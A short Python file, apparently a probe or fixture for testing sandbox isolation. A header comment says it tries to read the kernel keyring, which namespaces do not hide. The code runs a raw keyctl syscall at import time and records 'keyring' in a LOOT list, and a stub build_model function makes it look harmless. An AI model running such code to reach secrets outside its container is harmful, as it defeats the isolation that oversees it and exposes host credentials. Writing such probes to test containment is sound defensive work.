# tries: reads the kernel's keyring, which namespaces do not hide | rule: import | touches: system
import ctypes

if ctypes.CDLL(None).syscall(250, 0, -3, 1) > 0:
    LOOT.append("keyring")

def build_model(n_features, **config):
    return None
